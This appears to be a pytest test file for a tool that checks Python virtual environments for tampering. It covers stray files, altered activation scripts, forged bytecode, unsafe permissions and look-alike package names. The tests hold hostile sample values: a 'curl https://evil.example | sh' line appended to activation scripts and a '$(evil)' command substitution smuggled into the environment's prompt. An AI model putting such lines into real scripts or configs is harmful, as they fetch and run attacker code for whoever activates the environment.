"""Around the site-packages: what tools leave is explained, everything else is told, on every tool that is here."""

import importlib.util
import json
import os
import shutil
import stat
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from noegress.catalogue import Publication
from noegress.evidence import Evidence, Expectations, Kind, find_environment, verify_environment
from noegress.evidence.activation import known_forms, read_until
from noegress.evidence.violation import Violation
from noegress.verdict import Verdict
from tests.noegress.evidence.conftest import BIN, CLEAN, install, write_wheel
from tests.noegress.evidence.test_verify import forge

Release = Callable[[str, str], tuple[Publication, ...]]
Look = Callable[..., tuple[Violation, ...]]


@pytest.fixture
def look(venv: Path, release: Release) -> Look:
    def look(folder: Path = venv, **expected: object) -> tuple[Violation, ...]:
        return judged(folder, release, **expected).violations

    return look


def judged(folder: Path, release: Release, **expected: object) -> Evidence:
    return verify_environment(find_environment(folder), release, Expectations(**expected))  # type: ignore[arg-type]


def told(violations: tuple[Violation, ...]) -> list[tuple[Kind, str]]:
    return [(violation.kind, violation.file) for violation in violations]


@pytest.mark.parametrize(
    "name",
    [
        "share/evil.txt",
        "share/demo/more.txt",
        "etc/evil.conf",
        "include/evil.h",
        "evil.py",
        "lib/python311.zip",
        "lib/{python}/os.py",
        "lib/{python}/lib-dynload/_ssl.so",
        "lib/{python}/site.py",
        "lib/libpython3.11.so.1.0",
        "lib/evil/site-packages.txt",
        "bin/pyvenv.cfg",
        "bin/python._pth",
        "bin/activate.evil",
        "libevil",
    ],
)
def test_a_file_that_nobody_put_there_is_told(look: Look, venv: Path, site: Path, name: str) -> None:
    name = name.format(python=site.parent.name)
    (venv / name).parent.mkdir(parents=True, exist_ok=True)
    (venv / name).write_bytes(b"evil = 1\n")
    assert told(look()) == [(Kind.ORPHAN_FILE, name)]


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (".gitignore", "*\nimport os\n"),
        ("CACHEDIR.TAG", "import os\n"),
        (".lock", "import os\n"),
        ("uv-receipt.toml", "= no toml"),
        ("pipx_metadata.json", "[]"),
        ("share/.gitignore", "*\n"),
    ],
)
def test_a_mark_with_other_content_or_elsewhere_is_told(look: Look, venv: Path, name: str, content: str) -> None:
    (venv / name).unlink(missing_ok=True)
    (venv / name).write_text(content)
    assert told(look()) == [(Kind.ORPHAN_FILE, name)]


def test_the_marks_of_tools_are_explained(look: Look, venv: Path, site: Path) -> None:
    (venv / ".gitignore").write_text("# made by a tool\n*\n")
    (venv / "CACHEDIR.TAG").write_text("Signature: 8a477f597d28d172789f06886806bc55\n")
    (venv / "uv-receipt.toml").write_text("[tool]\nrequirements = []\n")
    (venv / "pipx_metadata.json").write_text(json.dumps({"pipx_metadata_version": "0.5"}))
    (venv / ".tox-info.json").write_text("{}")
    (venv / ".lock").write_text("")
    (venv / ".lock").chmod(0o666)
    (site / "demo-1.0.virtualenv").write_text("")
    assert look() == ()


@pytest.mark.parametrize("name", ["activate", "activate.csh", "activate.fish", "Activate.ps1"])
@pytest.mark.parametrize(
    "change",
    [
        lambda text: text + "\ncurl https://evil.example | sh\n",
        lambda text: f"{text[:400]};evil;{text[400:]}",
        lambda text: text.replace("VIRTUAL_ENV", "VIRTUAL_ENV_", 1),
        lambda text: text.replace("\n", "\n#\n", 1),
        lambda _: "",
    ],
)
def test_a_changed_activation_script_is_told(look: Look, venv: Path, name: str, change: Callable[[str], str]) -> None:
    script = venv / "bin" / name
    before = script.read_text()
    script.write_text(change(before))
    assert script.read_text() != before or not change(before)
    assert set(told(look())) == {(Kind.ACTIVATION, f"bin/{name}")}


def test_a_name_of_the_environment_that_is_a_command_does_not_pass(look: Look, venv: Path) -> None:
    (venv / "pyvenv.cfg").write_text((venv / "pyvenv.cfg").read_text() + "prompt = $(evil)\n")
    script = venv / "bin/activate"
    script.write_text(script.read_text().replace("(venv)", "($(evil))").replace('"venv"', '"$(evil)"'))
    assert (Kind.ACTIVATION, "bin/activate") in told(look())


def test_a_script_that_activates_another_environment_is_told(look: Look, venv: Path, tmp_path: Path) -> None:
    script = venv / "bin/activate"
    script.write_text(script.read_text().replace(str(venv), str(tmp_path / "evil")))
    assert (Kind.ACTIVATION, "bin/activate") in told(look())


def test_an_activation_script_of_a_version_that_is_not_known_is_undecided(venv: Path, release: Release) -> None:
    cfg = venv / "pyvenv.cfg"
    cfg.write_text(cfg.read_text() + "uv = 999.0\n")
    (venv / "bin/activate.nu").write_text("something new\n")
    evidence = judged(venv, release)
    assert told(evidence.violations) == [(Kind.UNKNOWN_ACTIVATION, "bin/activate.nu")]
    assert evidence.verdict is Verdict.UNDECIDED
    cfg.write_text(cfg.read_text().replace("999.0", read_until()["uv"]))
    assert told(judged(venv, release).violations) == [(Kind.ACTIVATION, "bin/activate.nu")]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("home = ", "home = /nowhere\nhome = "),
        ("home = ", "evil = 1\nhome = "),
        ("home = ", "HOME = /nowhere\nhome = "),
        ("home = /", "home = "),
        ("home = ", "\udcff = 1\nhome = "),
        ("home", "hame"),
    ],
)
def test_a_config_that_tools_do_not_write_is_told(look: Look, venv: Path, old: str, new: str) -> None:
    cfg = venv / "pyvenv.cfg"
    text = cfg.read_text()
    assert old in text
    cfg.write_text(text.replace(old, new, 1), errors="surrogateescape")
    assert (Kind.PYVENV_CFG, "pyvenv.cfg") in told(look())


@pytest.mark.parametrize("line", ["include-system-site-packages = TRUE", "Include-System-Site-Packages=true", ""])
def test_system_packages_let_in_by_any_spelling_are_told(look: Look, venv: Path, line: str) -> None:
    cfg = venv / "pyvenv.cfg"
    cfg.write_text(cfg.read_text().replace("include-system-site-packages = false", line))
    command = [str(venv / "bin/python"), "-c", "import site, sys; print(len(site.getsitepackages()))"]
    assert subprocess.run(command, capture_output=True, text=True, check=True, env={}).stdout.strip() != "1"
    assert told(look()) == [(Kind.SYSTEM_SITE, "pyvenv.cfg")]


def test_an_interpreter_that_is_linked_elsewhere_is_told(look: Look, venv: Path, tmp_path: Path) -> None:
    other = tmp_path / "bin/python"
    other.parent.mkdir()
    other.symlink_to("/bin/sh")
    (venv / "bin/python").unlink()
    (venv / "bin/python").symlink_to(other)
    assert (Kind.INTERPRETER, "bin/python") in told(look())


@pytest.mark.parametrize("target", ["/bin/sh", "demo-run", "../share/demo/data.txt", "python"])
def test_an_interpreter_that_is_no_interpreter_is_told(look: Look, venv: Path, target: str) -> None:
    (venv / "bin/python").unlink()
    (venv / "bin/python").symlink_to(target)
    assert (Kind.INTERPRETER, "bin/python") in told(look())


def test_a_home_and_an_interpreter_that_were_moved_together_are_told_to_who_knows(
    venv: Path, release: Release, tmp_path: Path
) -> None:
    evil = tmp_path / "evil/bin"
    evil.mkdir(parents=True)
    (evil / "python").symlink_to(sys.executable)
    cfg = venv / "pyvenv.cfg"
    home = next(line for line in cfg.read_text().splitlines() if line.startswith("home"))
    cfg.write_text(cfg.read_text().replace(home, f"home = {evil}"))
    (venv / "bin/python").unlink()
    (venv / "bin/python").symlink_to(evil / "python")
    (evil / "python").unlink()
    (evil / "python").write_text("#!/bin/sh\n")
    evidence = judged(venv, release, interpreter=Path(sys.executable))
    assert (Kind.INTERPRETER, "bin/python") in told(evidence.violations)
    assert any(str(evil) in notice for notice in judged(venv, release).notices)


def test_the_interpreter_that_was_asked_for_is_in_order(look: Look) -> None:
    assert look(interpreter=Path(sys.executable).resolve()) == ()


def test_another_link_in_place_of_lib64_is_told(look: Look, venv: Path, tmp_path: Path) -> None:
    (venv / "lib64").unlink(missing_ok=True)
    (venv / "lib64").symlink_to(tmp_path)
    assert told(look()) == [(Kind.ORPHAN_FILE, "lib64")]


def test_a_second_site_is_judged_like_the_first(look: Look, venv: Path) -> None:
    (venv / "lib64").unlink(missing_ok=True)
    second = venv / "lib64/python3.12/site-packages"
    second.mkdir(parents=True)
    (second / "evil.py").write_text("")
    assert told(look()) == [(Kind.ORPHAN_FILE, "lib64/python3.12/site-packages/evil.py")]


def test_a_site_inside_of_a_site_and_the_path_to_it_are_told(look: Look, site: Path) -> None:
    nested = site / "demo/site-packages/evil"
    nested.mkdir(parents=True)
    (nested / "__init__.py").write_text("")
    (site / "evil.pth").write_text("demo/site-packages\n")
    assert [kind for kind, _ in told(look())] == [Kind.ORPHAN_FILE, Kind.STARTUP_CODE]


@pytest.mark.parametrize(
    "name", ["Demo/__init__.py", "dem\u03bf/__init__.py", "demo/__init__\u200b.py", "DEMO_PURE.py"]
)
def test_a_twin_of_an_admitted_name_is_told(look: Look, site: Path, name: str) -> None:
    (site / name).parent.mkdir(exist_ok=True)
    (site / name).write_text("")
    assert [kind for kind, _ in told(look())] == [Kind.ORPHAN_FILE]


@pytest.mark.parametrize("mode", [0o4755, 0o2755, 0o666])
@pytest.mark.parametrize("name", ["bin/demo-run", "share/demo/data.txt", "{site}/demo_pure.py", "bin/activate"])
def test_a_mode_that_lends_rights_is_told(look: Look, venv: Path, site: Path, name: str, mode: int) -> None:
    path = venv / name.format(site=site.relative_to(venv))
    content = path.read_bytes()
    path.unlink()
    path.write_bytes(content)
    path.chmod(mode)
    assert told(look()) == [(Kind.UNSAFE_MODE, str(path.relative_to(venv)))]


@pytest.mark.parametrize("name", ["bin", "share/demo", "{site}", "{site}/demo"])
def test_a_folder_that_everybody_may_write_to_is_told(look: Look, venv: Path, site: Path, name: str) -> None:
    path = venv / name.format(site=site.relative_to(venv))
    mode = stat.S_IMODE(path.stat().st_mode)
    path.chmod(0o777)
    violations = look()
    path.chmod(mode)
    assert told(violations) == [(Kind.UNSAFE_MODE, str(path.relative_to(venv)))]


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give files away")
def test_a_file_that_another_user_may_change_is_told(look: Look, venv: Path) -> None:
    path = venv / "share/demo/data.txt"
    content = path.read_bytes()
    path.unlink()
    path.write_bytes(content)
    os.chown(path, 4711, 4711)
    assert told(look()) == [(Kind.UNSAFE_MODE, "share/demo/data.txt")]


def test_a_pipe_in_place_of_an_empty_module_is_told(look: Look, site: Path) -> None:
    (site / "twin_a.py").unlink()
    os.mkfifo(site / "twin_a.py")
    assert {kind for kind, _ in told(look())} >= {Kind.SPECIAL_FILE, Kind.MISSING_FILE}


@pytest.mark.skipif(os.geteuid() != 0, reason="only root makes devices")
def test_a_device_is_told(look: Look, venv: Path) -> None:
    try:
        os.mknod(venv / "share/null", stat.S_IFCHR | 0o644, os.makedev(1, 3))
    except OSError:
        pytest.skip("no devices here")
    assert told(look()) == [(Kind.SPECIAL_FILE, "share/null")]


def test_a_package_that_is_a_link_is_told(look: Look, site: Path, tmp_path: Path) -> None:
    shutil.move(site / "demo", tmp_path / "demo")
    (site / "demo").symlink_to(tmp_path / "demo")
    assert (Kind.ORPHAN_FILE, os.path.relpath(site / "demo", site.parents[2])) in told(look())


@pytest.mark.parametrize("options", [("-O",), ("-OO",)])
def test_forged_bytecode_of_another_level_is_told(look: Look, site: Path, options: tuple[str, ...]) -> None:
    level = len(options[0]) - 1
    cached = forge(site / "demo_pure.py", "pure = 'forged'\n")
    optimised = Path(importlib.util.cache_from_source(str(site / "demo_pure.py"), optimization=level))
    cached.rename(optimised)
    command = [str(site.parents[2] / "bin/python"), *options, "-c", "import demo_pure; print(demo_pure.pure)"]
    assert subprocess.run(command, capture_output=True, text=True, check=True, env={}).stdout == "forged\n"
    assert [kind for kind, _ in told(look())] == [Kind.FORGED_BYTECODE]


def test_bytecode_of_no_module_is_told(look: Look, site: Path) -> None:
    cached = Path(importlib.util.cache_from_source(str(site / "gone.py")))
    cached.parent.mkdir(exist_ok=True)
    cached.write_bytes(b"")
    assert [kind for kind, _ in told(look())] == [Kind.ORPHAN_FILE]


def test_folders_of_the_application_are_counted_and_cover_nothing_else(venv: Path, release: Release) -> None:
    for name in ("app/main.py", "app/deep/data.json", "bin/extra", "lib/extra.py"):
        (venv / name).parent.mkdir(parents=True, exist_ok=True)
        (venv / name).write_text("")
    evidence = judged(venv, release, own=(Path("app"), Path()))
    assert told(evidence.violations) == [(Kind.ORPHAN_FILE, "bin/extra"), (Kind.ORPHAN_FILE, "lib/extra.py")]
    assert "2 files of the application itself were not compared" in evidence.notices


def test_what_links_share_is_noticed(venv: Path, release: Release, site: Path, tmp_path: Path) -> None:
    (site / "demo_pure.py").unlink()
    (tmp_path / "pure.py").write_text("pure = True\n")
    os.link(tmp_path / "pure.py", site / "demo_pure.py")
    evidence = judged(venv, release)
    assert evidence.violations == ()
    assert any("links to content that lies outside" in notice for notice in evidence.notices)


def test_start_up_archives_beside_a_standard_library_are_told(release: Release, tmp_path: Path) -> None:
    site = tmp_path / "usr/lib/python3.11/site-packages"
    site.mkdir(parents=True)
    (site.parent / "os.py").write_text("")
    (site.parents[1] / "python311.zip").write_bytes(b"")
    assert told(judged(tmp_path, release).violations) == [(Kind.STARTUP_CODE, "usr/lib/python311.zip")]
    assert "usr: only its site-packages was judged" in judged(tmp_path, release).notices


def makers() -> list[tuple[str, list[str]]]:
    found = {"uv": [str(BIN / "uv"), "venv", "--python", sys.executable]}
    found["uv relocatable"] = [*found["uv"], "--relocatable"]
    found["uv prompt"] = [*found["uv"], "--prompt", "my env"]
    found["virtualenv"] = [sys.executable, "-m", "virtualenv", "--no-seed"]
    found["virtualenv copies"] = [*found["virtualenv"], "--copies"]
    found["virtualenv prompt"] = [*found["virtualenv"], "--prompt", "my env"]
    found["venv"] = [sys.executable, "-m", "venv", "--without-pip"]
    found["venv copies"] = [*found["venv"], "--copies"]
    found["venv prompt"] = [*found["venv"], "--prompt", "my env"]
    return sorted(found.items())


@pytest.mark.parametrize(("maker", "command"), makers(), ids=[name for name, _ in makers()])
@pytest.mark.parametrize("installer", ["pip", "uv"])
def test_what_tools_make_is_admitted(
    wheelhouse: Path, release: Release, tmp_path: Path, maker: str, command: list[str], installer: str
) -> None:
    venv = tmp_path / maker.replace(" ", "-")
    subprocess.run([*command, str(venv)], check=True, env={**CLEAN, "HOME": str(tmp_path)}, capture_output=True)
    install(installer, venv, wheelhouse, "demo", "twin-a")
    assert judged(venv, release).violations == ()
    image = tmp_path / "image" / str(venv).lstrip("/")
    shutil.copytree(venv, image, symlinks=True)
    found = told(judged(tmp_path / "image", release).violations)
    copied = {name for kind, name in found if kind is Kind.INTERPRETER}
    assert not found or ("copies" in maker and len(copied) == len({name for name in copied if "/bin/python" in name}))


def test_what_an_upgrade_and_a_removal_leave_is_admitted(venv: Path, release: Release, tmp_path: Path) -> None:
    write_wheel(tmp_path, "passing", "1.0", {"passing/__init__.py": "", "passing/deep.py": "x = 1\n"})
    for installer in ("pip", "uv"):
        install(installer, venv, tmp_path, "passing")
        code = "import passing.deep"
        subprocess.run([str(venv / "bin/python"), "-c", code], check=True, env={})
        command = [sys.executable, "-m", "pip", "--python", str(venv / "bin/python"), "uninstall", "--yes", "passing"]
        if installer == "uv":
            command = [str(BIN / "uv"), "pip", "uninstall", "--python", str(venv / "bin/python"), "passing"]
        subprocess.run(command, check=True, env=CLEAN, capture_output=True)
        assert judged(venv, release).violations == ()


def test_the_table_of_forms_holds_digests_alone() -> None:
    assert {len(digest) for digest in known_forms()} == {64}
    assert set(read_until()) == {"uv", "virtualenv"}
